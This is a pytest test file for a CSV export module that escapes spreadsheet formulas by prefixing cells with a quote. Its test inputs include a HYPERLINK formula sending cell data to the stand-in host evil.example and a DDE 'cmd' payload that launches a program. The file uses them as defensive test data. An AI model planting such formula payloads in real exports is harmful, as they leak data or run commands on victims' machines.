"""CSV exports: a cell a spreadsheet would run as a formula is written as text (core.spreadsheet)."""
from __future__ import annotations

import csv
import io

import pytest

from safepost_web.core.spreadsheet import safe_cell, write_csv


@pytest.mark.parametrize("value,written", [
    ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")'),
    ("+44 7700 900123", "'+44 7700 900123"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    # True negatives: ordinary text, formula characters further in, and numbers stay as they are.
    ("Annual update 2026", "Annual update 2026"),
    ("Jo said: = is fine here", "Jo said: = is fine here"),
    ("", ""),
    (-3, -3),
    (2.5, 2.5),
    (None, None),
])
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_write_csv_reads_back_as_text():
    buf = io.StringIO()
    write_csv(buf, ["name", "note"], [["=cmd|' /C calc'!A0", "fine"], ["Bob", -1]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [
        ["name", "note"], ["'=cmd|' /C calc'!A0", "fine"], ["Bob", "-1"]]
